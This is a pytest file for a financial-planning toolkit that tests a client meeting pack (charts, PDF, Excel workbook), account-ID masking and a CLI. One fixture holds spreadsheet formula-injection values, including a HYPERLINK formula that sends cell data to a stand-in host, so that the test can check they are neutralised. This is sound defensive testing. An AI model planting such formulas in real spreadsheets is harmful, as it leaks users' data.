"""The client-meeting pack: its files, the PDF's pages and text, the workbook's sheets, formats,
values and masking, formula safety, and the CLI."""

from __future__ import annotations

import re
import struct
import zlib
from pathlib import Path

import matplotlib

matplotlib.use("Agg")

import numpy as np
import openpyxl
import pandas as pd
import pytest
from matplotlib.backends.backend_agg import FigureCanvasAgg
from matplotlib.text import Text

from tests.conftest import SAMPLES
from tests.factories import household
from toolkit import Band, allocation, drift, load_household, lot_status
from toolkit.accounts import AccountMasker
from toolkit.cli import main
from toolkit.planner import plan
from toolkit.report import NOTICE, meeting_pack, pack_files, pack_pages
from toolkit.style import label

HOUSEHOLD = SAMPLES / "household" / "household.toml"
FILES = ["allocation.png", "drift.png", "accounts.png", "plan.png", "lot_gains.png",
         "meeting.pdf", "household.xlsx"]
SHEETS = ["Summary", "Positions", "Lots", "Allocation", "Drift", "Plan", "Lots sold"]
MONEY = '"$"#,##0.00;[Red]-"$"#,##0.00'
# the sample household's ids that masking changes ("...456" and "...789" are masked already)
FULL_IDS = ["234567891", "87654", "456789123", "X71234567", "12345678", "23456789"]


@pytest.fixture(scope="module")
def h():
    return load_household(HOUSEHOLD)


@pytest.fixture(scope="module")
def pack(h, tmp_path_factory):
    """The default pack: waterfall plan, masked ids."""
    out = tmp_path_factory.mktemp("pack")
    assert meeting_pack(h, out / "meeting") == out / "meeting"
    return out / "meeting"


def mask(account: str) -> str:
    return AccountMasker.of(load_household(HOUSEHOLD).accounts).account(account)


@pytest.fixture(scope="module")
def pages(h):
    return pack_pages(h)


@pytest.fixture(scope="module")
def naive(h):
    return plan(h, mode="naive")


@pytest.fixture(scope="module")
def open_pack(h, naive, tmp_path_factory):
    """A pack of a given plan (naive: it sells taxable lots) with ids shown."""
    out = tmp_path_factory.mktemp("open")
    return meeting_pack(h, out, plan=naive, mask_accounts=False)


def sheet(path: Path, name: str) -> pd.DataFrame:
    ws = openpyxl.load_workbook(path)[name]
    rows = list(ws.iter_rows(values_only=True))
    return pd.DataFrame(rows[1:], columns=rows[0])


def cells(path: Path):
    wb = openpyxl.load_workbook(path)
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    yield ws.title, c


def pdf_pages(data: bytes) -> int:
    """Page objects (``/Type /Page``, not the ``/Type /Pages`` tree)."""
    return len(re.findall(rb"/Type\s*/Page(?![s\w])", data))


def pdf_text(data: bytes) -> list[str]:
    """The text runs drawn in a matplotlib PDF (content streams are Flate-compressed)."""
    out = []
    for m in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", data, re.S):
        try:
            s = zlib.decompress(m.group(1))
        except zlib.error:
            continue
        for t in re.finditer(rb"\[(.*?)\]\s*TJ", s, re.S):
            parts = re.findall(rb"\(((?:\\.|[^\\)])*)\)", t.group(1))
            out.append(b"".join(parts).replace(b"\\(", b"(").replace(b"\\)", b")")
                       .decode("latin-1"))
    return out


def png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    assert data[12:16] == b"IHDR"
    return struct.unpack(">II", data[16:24])


# --- files -----------------------------------------------------------------------------------


def test_the_pack_holds_exactly_its_files(pack, open_pack):
    assert pack_files() == FILES
    assert pack_files(cadence=True) == FILES[:5] + ["cadence.png"] + FILES[5:]
    assert sorted(p.name for p in pack.iterdir()) == sorted(FILES)
    assert sorted(p.name for p in open_pack.iterdir()) == sorted(FILES)


@pytest.mark.parametrize("name", FILES[:5])
def test_each_chart_is_a_png_of_a_page(pack, name):
    data = (pack / name).read_bytes()
    w, hgt = png_size(data)
    # 11 x 8.5 in at 150 dpi, trimmed to the drawing: between half and all of 1650 x 1275
    assert 800 <= w <= 1650 and 600 <= hgt <= 1275, (w, hgt)
    assert len(data) > 20_000


def test_pdf_has_a_title_page_one_page_per_chart_and_the_trade_list(pack, pages):
    data = (pack / "meeting.pdf").read_bytes()
    assert data.startswith(b"%PDF-")
    assert data.rstrip().endswith(b"%%EOF")
    # title, allocation, drift, accounts, plan, the trade list (17 trades with their
    # reasons: three pages), lot gains
    names = [n for n, _ in pages]
    assert names == ["title", "allocation.png", "drift.png", "accounts.png", "plan.png",
                     "trades", "trades", "trades", "lot_gains.png"]
    assert pdf_pages(data) == len(pages) == 9
    # every page is US letter, landscape
    assert re.findall(rb"/MediaBox \[ ([\d.]+ [\d.]+ [\d.]+ [\d.]+) \]", data) == \
        [b"0 0 792 612"] * 9
    text = pdf_text(data)
    assert text[:2] == ["Rivera household (sample)", "Client meeting pack, as of 2026-11-20"]
    assert text[2:6] == ["Total value", "$1,143,719", "Accounts", "8"]
    trades = str(plan(load_household(HOUSEHOLD)).summary.trades)
    for line in ("Planned trades", trades, "Estimated tax of the plan", "$0", "Accounts",
                 "Maya Rollover IRA (...891)", "ACME 401(k) (...654)", "Traditional IRA",
                 "$213,215", "Alex Roth IRA (...789)", "Maya Roth IRA (...789)"):
        assert line in text
    # the educational-use notice and the page number on every page
    assert [NOTICE in [t.get_text() for t in fig.texts] for _, fig in pages] == [True] * 9
    assert [[t.get_text() for t in fig.texts if t.get_text().startswith("page ")]
            for _, fig in pages] == [[f"page {i} of 9"] for i in range(1, 10)]


def test_no_text_runs_off_a_page_or_overlaps_in_the_trade_list(pages, h, naive):
    """Every label, tick and line of text lies inside its page (no "nternational equity"),
    for the default pack, an unmasked pack of another plan and a one-account household."""
    small = household(accounts={"K": "401k"},
                      positions=[{"account": "K", "symbol": "VTI", "quantity": 10,
                                  "price": 300.0}])
    for named in (pages, pack_pages(h, plan=naive, mask_accounts=False), pack_pages(small)):
        for name, fig in named:
            canvas = FigureCanvasAgg(fig)
            canvas.draw()
            r = canvas.get_renderer()
            box = fig.bbox
            # everything drawn (titles, tick labels, legends, annotations, page text)
            tight = fig.get_tightbbox(r)
            w, hgt = fig.get_size_inches()
            assert (tight.x0 >= -0.01 and tight.y0 >= -0.01 and tight.x1 <= w + 0.01
                    and tight.y1 <= hgt + 0.01), (name, tight)
            texts = [t for t in fig.findobj(Text) if t.get_visible() and t.get_text().strip()]
            assert texts, name
            for t in fig.texts:
                e = t.get_window_extent(r)
                assert (e.x0 >= box.x0 - 0.5 and e.x1 <= box.x1 + 0.5 and e.y0 >= box.y0 - 0.5
                        and e.y1 <= box.y1 + 0.5), (name, t.get_text(), e, box)
            if name == "trades":
                # no two cells of the trade list overlap
                boxes = [(t.get_text(), t.get_window_extent(r)) for t in fig.texts]
                clashes = [(a, b) for i, (a, ea) in enumerate(boxes) for b, eb in boxes[i + 1:]
                           if ea.overlaps(eb)]
                assert clashes == [], clashes


def test_trade_list_pages_carry_every_trade_with_reason_amount_and_tax(pack, pages, h):
    p = plan(h)
    text = " ".join(pdf_text((pack / "meeting.pdf").read_bytes()))
    assert "Trade list (waterfall plan)" in text
    # with step 3's loss sales (VTI -$270, then BND -$1,596: -$470.61, the year's loss room
    # full); Fidelity's pending +$150 in the rollover IRA invested too
    assert ("17 trades: bought $188,349.39, sold $144,724.36; estimated tax -$470.61 (federal "
            "-$383.46, state -$87.15, NIIT $0.00);") in text
    assert "within the band after the plan" in text
    # the pages as laid out: each trade's cells, its reason wrapped over the lines of its cell
    lines = [t.get_text() for name, fig in pages if name == "trades" for t in fig.texts]
    joined = " ".join(lines)
    masker = AccountMasker.of(h.accounts)
    for t in p.trades.itertuples():
        assert masker.text(t.reason) in joined, t.reason
        assert f"${t.amount:,.2f}" in lines
        assert f"{t.side} {t.symbol}" in lines
    assert "Alex Roth IRA (...789)" in lines and "Maya Roth IRA (...789)" in lines
    # before and after for each class, in percentage points (US equity: +11.9 -> +0.0)
    i = lines.index("US equity")
    assert lines[i:i + 4] == ["US equity", "45.0%", "+11.9", "+0.0"]


def test_pdf_masks_account_ids_unless_asked(pack, open_pack):
    masked = pdf_text((pack / "meeting.pdf").read_bytes())
    shown = pdf_text((open_pack / "meeting.pdf").read_bytes())
    for ident in FULL_IDS:
        assert not any(ident in t for t in masked), ident
        assert any(ident in t for t in shown), ident
    assert "Maya Rollover IRA (234567891)" in shown
    # the naive plan's note names the 401(k): masked on the title page only when masking
    assert ("naive: 87654 has no fund for reits: it sells only what it can buy back into its "
            "other underweight classes") in shown
    assert not any(t.startswith("naive: ...654") for t in shown)


# --- the workbook ----------------------------------------------------------------------------


def test_workbook_sheets_and_header_rows(pack):
    wb = openpyxl.load_workbook(pack / "household.xlsx")
    assert wb.sheetnames == SHEETS
    heads = {ws.title: [c.value for c in ws[1]] for ws in wb}
    assert heads == {
        "Summary": ["Item", "Value"],
        "Positions": ["Account", "Account name", "Tax type", "Symbol", "Description",
                      "Asset class", "Shares", "Price", "Value", "Cost basis",
                      "Unrealised gain"],
        "Lots": ["Account", "Tax type", "Symbol", "Acquired", "Holding period from", "Shares",
                 "Price", "Cost basis", "Value", "Unrealised gain", "Term today",
                 "Long-term from", "Days to long-term", "Long-term within 30 days"],
        "Allocation": ["View", "Account or tax type", "Account name", "Asset class", "Value",
                       "Weight in group", "Weight in household"],
        "Drift": ["Asset class", "Value", "Current", "Target", "Drift",
                  "Drift relative to target", "Band lower", "Band upper", "Outside band",
                  "Dollars to target", "Dollars outside band"],
        "Plan": ["Step", "Account", "Account name", "Tax type", "Side", "Symbol",
                 "Asset class", "Shares", "Price", "Amount", "Short-term gain",
                 "Long-term gain", "Gain", "Estimated tax", "Reason"],
        "Lots sold": ["Step", "Account", "Symbol", "Acquired", "Holding period from",
                      "Term", "Shares", "Price", "Proceeds", "Cost basis", "Gain",
                      "Estimated tax"],
    }
    for ws in wb:
        assert ws.freeze_panes == "A2", ws.title
        assert all(c.font.b for c in ws[1]), ws.title
        assert ws.column_dimensions["A"].width >= 8
    assert wb["Plan"].column_dimensions["O"].width == 80
    assert wb["Positions"].column_dimensions["E"].width == 45


@pytest.mark.parametrize(("name", "column", "fmt"), [
    ("Positions", "I", MONEY),        # Value
    ("Positions", "J", MONEY),        # Cost basis
    ("Positions", "G", "#,##0.000"),  # Shares
    ("Lots", "D", "yyyy-mm-dd"),      # Acquired
    ("Lots", "L", "yyyy-mm-dd"),      # Long-term from
    ("Lots", "J", MONEY),             # Unrealised gain
    ("Lots", "M", "0"),               # Days to long-term
    ("Allocation", "F", "0.00%"),     # Weight in group
    ("Drift", "C", "0.00%"),          # Current
    ("Drift", "E", "0.00%"),          # Drift
    ("Drift", "K", MONEY),            # Dollars outside band
    ("Plan", "J", MONEY),             # Amount
    ("Plan", "H", "#,##0.000"),       # Shares
])
def test_number_formats_for_people(pack, name, column, fmt):
    ws = openpyxl.load_workbook(pack / "household.xlsx")[name]
    body = ws[column][1:]
    assert len(body) > 0
    assert {c.number_format for c in body} == {fmt}


def test_lots_sold_formats(open_pack):
    ws = openpyxl.load_workbook(open_pack / "household.xlsx")["Lots sold"]
    assert ws.max_row > 1
    assert {c.number_format for c in ws["E"][1:]} == {"yyyy-mm-dd"}   # Acquired
    assert {c.number_format for c in ws["J"][1:]} == {MONEY}          # Proceeds


def test_summary_sheet(pack, h):
    ws = openpyxl.load_workbook(pack / "household.xlsx")["Summary"]
    rows = {r[0].value: r[1] for r in ws.iter_rows(min_row=2)}
    p = plan(h)
    d = drift(h)
    assert list(rows) == [
        "Household", "As of", "Total value", "Accounts", "Tolerance band",
        "Classes outside the band", "Dollars outside the band", "Plan", "Planned trades",
        "Bought", "Sold", "Turnover", "Short-term gains realised", "Long-term gains realised",
        "Estimated tax of the plan", "Within the band after the plan", "Note", "Notice"]
    assert rows["Household"].value == "Rivera household (sample)"
    assert rows["As of"].value.date() == pd.Timestamp("2026-11-20").date()
    assert rows["As of"].number_format == "yyyy-mm-dd"
    assert rows["Total value"].value == pytest.approx(1143718.97)
    assert rows["Total value"].number_format == MONEY
    assert rows["Accounts"].value == 8
    assert rows["Tolerance band"].value == "±5 pp or ±25% of target, whichever is nearer"
    # the unclassified PTY and cash held against a 0% target are not classes out of band
    assert rows["Classes outside the band"].value == (
        "US equity (+11.9 pp), International equity (-5.1 pp), Bonds (-9.3 pp), "
        "REITs (-1.9 pp)")
    # 79,420.20 + 14,908.38 + 49,143.69 + 7,399.46
    assert rows["Dollars outside the band"].value == pytest.approx(
        d["dollars_outside"].iloc[:4].sum())
    assert rows["Dollars outside the band"].value == pytest.approx(150871.73, abs=0.01)
    assert rows["Plan"].value == "waterfall"
    assert rows["Planned trades"].value == p.summary.trades == len(p.trades)
    assert rows["Bought"].value == pytest.approx(188349.39)
    # 6,600 (VTI, step 3) + 29,143.05 (FXAIX) + 100,161.31 (the 401(k)) + 8,820 (BND, step 3)
    assert rows["Sold"].value == pytest.approx(144724.36)
    assert rows["Turnover"].value == pytest.approx(p.summary.turnover)
    assert rows["Turnover"].number_format == "0.00%"
    assert rows["Estimated tax of the plan"].value == pytest.approx(-470.61)
    assert rows["Within the band after the plan"].value == "yes"
    assert rows["Note"].value == ("AAPL in ...567 not sold: its lots do not reconcile with the "
                                  "position (allow_untrusted=True to sell anyway)")
    assert rows["Notice"].value == NOTICE


def test_no_full_account_id_anywhere_when_masked(pack, open_pack):
    found = [(t, c.coordinate, c.value) for t, c in cells(pack / "household.xlsx")
             if any(i in str(c.value) for i in FULL_IDS)]
    assert found == []
    # the same scan finds them when the pack shows ids: in cells and in the plan's reasons
    shown = {i for _, c in cells(open_pack / "household.xlsx") for i in FULL_IDS
             if i in str(c.value)}
    assert shown == set(FULL_IDS)


def test_reasons_name_accounts_masked(pack, h):
    p = plan(h)
    got = sheet(pack / "household.xlsx", "Plan")
    i = p.trades.index[p.trades["account"].eq("234567891")][0]
    assert p.trades.loc[i, "reason"] == (
        "step 1 (idle cash): invest $2,295 of Maya Rollover IRA (234567891)'s cash above its "
        "floor in bonds, underweight by $105,387; FXNAX is already held in this account; "
        "tax-deferred accounts are bonds' best home: bond interest, ordinary income, is "
        "tax-deferred here, and tax-deferred money comes before Roth money for bonds (their "
        "lower growth uses less of tax-free growth)")
    assert got.loc[i, "Reason"] == p.trades.loc[i, "reason"].replace("234567891", "...891")
    assert got.loc[i, "Account"] == "...891"


def test_positions_equal_the_household(pack, h):
    got = sheet(pack / "household.xlsx", "Positions")
    pos = h.positions
    assert got["Account"].tolist() == [mask(a) for a in pos["account"]]
    assert got["Symbol"].tolist() == pos["symbol"].tolist()
    assert got["Asset class"].tolist() == [label(c) for c in pos["asset_class"]]
    assert got["Value"].tolist() == pos["market_value"].tolist()
    assert got["Shares"].tolist() == pos["quantity"].tolist()
    # floats survive the XML to within one unit in the last place; missing stays missing
    np.testing.assert_allclose(got["Cost basis"].astype("float64"), pos["cost_basis"],
                               rtol=1e-15)
    np.testing.assert_allclose(got["Unrealised gain"].astype("float64"),
                               pos["market_value"] - pos["cost_basis"], rtol=1e-15)
    # AAPL, transferred in without a basis: an empty cell, not 0
    ws = openpyxl.load_workbook(pack / "household.xlsx")["Positions"]
    aapl = next(r for r in ws.iter_rows(min_row=2) if r[3].value == "AAPL")
    assert [c.value for c in aapl[7:11]] == [228.4, 13704.0, None, None]


def test_lots_equal_lot_status(pack, h):
    got = sheet(pack / "household.xlsx", "Lots")
    s = lot_status(h.lots, h.positions[["account", "symbol", "price"]], h.as_of)
    assert len(got) == len(s) == 54
    assert got["Term today"].tolist() == s["term"].tolist()
    assert got["Days to long-term"].tolist() == s["days_to_long_term"].tolist()
    assert [pd.Timestamp(d) for d in got["Long-term from"]] == s["long_term_date"].tolist()
    assert [pd.Timestamp(d) for d in got["Acquired"]] == s["acquired"].tolist()
    np.testing.assert_allclose(got["Unrealised gain"].astype("float64"),
                               s["unrealized_gain"], rtol=1e-15)
    assert got["Tax type"].unique().tolist() == ["taxable"]
    assert got["Long-term within 30 days"].tolist() == s["turns_long_soon"].tolist()


def test_allocation_equals_the_core(pack, h):
    got = sheet(pack / "household.xlsx", "Allocation")
    for view, by in (("by account", "account"), ("by tax type", "tax_type")):
        part = got[got["View"] == view]
        a = allocation(h, by=by)
        groups = [mask(g) for g in a["group"]] if by == "account" else a["group"].tolist()
        assert part["Account or tax type"].tolist() == groups
        assert part["Asset class"].tolist() == [label(c) for c in a["asset_class"]]
        assert part["Value"].tolist() == pytest.approx(a["market_value"].tolist())
        assert part["Weight in group"].tolist() == pytest.approx(a["weight"].tolist())
        assert part["Weight in household"].tolist() == pytest.approx(
            a["household_weight"].tolist())
    assert len(got) == len(allocation(h, by="account")) + len(allocation(h, by="tax_type"))


def test_drift_equals_the_core(pack, h):
    got = sheet(pack / "household.xlsx", "Drift")
    d = drift(h)
    assert got["Asset class"].tolist() == [label(c) for c in d.index]
    for col, src in (("Current", "current"), ("Target", "target"), ("Drift", "drift"),
                     ("Band lower", "lower"), ("Band upper", "upper"),
                     ("Dollars outside band", "dollars_outside")):
        assert got[col].tolist() == pytest.approx(d[src].tolist()), col
    assert got["Outside band"].tolist() == d["outside"].tolist()


def test_plan_sheets_equal_the_plan(open_pack, naive):
    got = sheet(open_pack / "household.xlsx", "Plan")
    t = naive.trades
    assert got["Account"].tolist() == t["account"].tolist()
    assert got["Side"].tolist() == t["side"].tolist()
    assert got["Symbol"].tolist() == t["symbol"].tolist()
    assert got["Amount"].tolist() == pytest.approx(t["amount"].tolist())
    assert got["Estimated tax"].tolist() == pytest.approx(t["est_tax"].tolist())
    assert got["Reason"].tolist() == t["reason"].tolist()
    sold = sheet(open_pack / "household.xlsx", "Lots sold")
    lots = naive.lots
    assert len(sold) == len(lots) > 0
    assert sold["Account"].tolist() == lots["account"].tolist()
    assert sold["Shares"].tolist() == pytest.approx(lots["quantity"].tolist())
    assert sold["Gain"].tolist() == pytest.approx(lots["gain"].tolist())
    assert [pd.Timestamp(d) for d in sold["Acquired"]] == [
        pd.Timestamp(d) for d in lots["acquired"]]
    summary_sheet = {r[0]: r[1] for r in sheet(open_pack / "household.xlsx", "Summary").values}
    assert summary_sheet["Plan"] == "naive"
    assert summary_sheet["Estimated tax of the plan"] == pytest.approx(naive.summary.tax)
    assert summary_sheet["Note"] == ("naive: 87654 has no fund for reits: it sells only what "
                                     "it can buy back into its other underweight classes")


# --- formula safety, band, cadence -----------------------------------------------------------


def hostile():
    """A household whose texts a spreadsheet would run: a description starting with "=",
    another with "@", an account name with "+"."""
    h = household(
        accounts={"T98765432": "taxable", "R12340000": "roth_ira"},
        positions=[
            {"account": "T98765432", "symbol": "VTI", "quantity": 100, "price": 300.0,
             "cost_basis": 20000.0,
             "description": '=HYPERLINK("http://x.example/?"&A1,"click")'},
            {"account": "R12340000", "symbol": "BND", "quantity": 100, "price": 75.0,
             "cost_basis": 7000.0, "description": "@SUM(A1:A2)"},
        ],
        lots=[{"account": "T98765432", "symbol": "VTI", "quantity": 100,
               "cost_basis": 20000.0, "acquired": "2015-01-05"}])
    acc = h.accounts
    acc.loc[acc["account"] == "R12340000", "name"] = "+1 Roth"
    return h.replace(accounts=acc)


def test_formula_like_text_is_neutralised(tmp_path):
    out = meeting_pack(hostile(), tmp_path, band=Band("absolute", absolute=0.05))
    path = out / "household.xlsx"
    pos = openpyxl.load_workbook(path)["Positions"]
    assert pos["E2"].value == '\'=HYPERLINK("http://x.example/?"&A1,"click")'
    assert pos["E3"].value == "'@SUM(A1:A2)"
    assert pos["B3"].value == "'+1 Roth"
    kinds = {c.data_type for _, c in cells(path)}
    assert "f" not in kinds
    # no cell anywhere starts with a formula character
    assert [c.value for _, c in cells(path)
            if isinstance(c.value, str) and c.value[:1] in "=+@"] == []
    # and the pack masks this household's ids too
    assert not any(i in str(c.value) for _, c in cells(path)
                   for i in ("T98765432", "R12340000"))


def test_band_reaches_drift_and_summary(tmp_path):
    h = hostile()
    band = Band("absolute", absolute=0.02)
    out = meeting_pack(h, tmp_path, band=band)
    got = sheet(out / "household.xlsx", "Drift")
    d = drift(h, band=band)
    assert got["Band lower"].tolist() == pytest.approx(d["lower"].tolist())
    assert got["Band upper"].tolist() == pytest.approx(d["upper"].tolist())
    summary_sheet = {r[0]: r[1] for r in sheet(out / "household.xlsx", "Summary").values}
    assert summary_sheet["Tolerance band"] == "±2 pp"
    # the plan was made with the same band
    assert summary_sheet["Planned trades"] == plan(h, band=band).summary.trades


def test_cadence_chart_is_optional(tmp_path):
    out = meeting_pack(hostile(), tmp_path, cadence=True,
                       cadence_options={"years": 2, "paths": 10})
    assert sorted(p.name for p in out.iterdir()) == sorted(pack_files(cadence=True))
    w, _ = png_size((out / "cadence.png").read_bytes())
    assert w > 800
    data = (out / "meeting.pdf").read_bytes()
    # title, five charts, one trade-list page, the cadence chart
    assert pdf_pages(data) == 8
    assert "Rebalancing policies compared (simulated)" in pdf_text(data)


def test_a_lot_free_household_still_gets_every_chart(tmp_path):
    h = household(accounts={"K": "401k"},
                  positions=[{"account": "K", "symbol": "VTI", "quantity": 10, "price": 300.0},
                             {"account": "K", "symbol": "BND", "quantity": 10, "price": 75.0}])
    out = meeting_pack(h, tmp_path)
    assert sorted(p.name for p in out.iterdir()) == sorted(FILES)
    assert "no taxable lots" in pdf_text((out / "meeting.pdf").read_bytes())
    assert openpyxl.load_workbook(out / "household.xlsx")["Lots"].max_row == 1


# --- CLI -------------------------------------------------------------------------------------


def test_cli_writes_the_same_pack(pack, tmp_path, capsys):
    out = tmp_path / "cli"
    assert main(["report", str(HOUSEHOLD), "--out", str(out)]) == 0
    printed = capsys.readouterr().out.splitlines()
    assert printed == [str(out / f) for f in FILES]
    assert sorted(p.name for p in out.iterdir()) == sorted(FILES)
    for f in FILES[:5] + ["meeting.pdf"]:
        assert (out / f).read_bytes() == (pack / f).read_bytes(), f
    for name in SHEETS:
        a, b = sheet(out / "household.xlsx", name), sheet(pack / "household.xlsx", name)
        pd.testing.assert_frame_equal(a, b)


def test_cli_no_mask_shows_ids(tmp_path, capsys):
    out = tmp_path / "open"
    assert main(["report", str(HOUSEHOLD), "--out", str(out), "--no-mask",
                 "--band", "absolute"]) == 0
    capsys.readouterr()
    pos = sheet(out / "household.xlsx", "Positions")
    assert "234567891" in pos["Account"].tolist()
    summary_sheet = {r[0]: r[1] for r in sheet(out / "household.xlsx", "Summary").values}
    assert summary_sheet["Tolerance band"] == "±5 pp"


def test_cli_reports_a_bad_household(tmp_path, capsys):
    bad = tmp_path / "household.toml"
    bad.write_text("[household]\nname = 'x'\n")
    assert main(["report", str(bad), "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ")
    assert not (tmp_path / "out").exists()
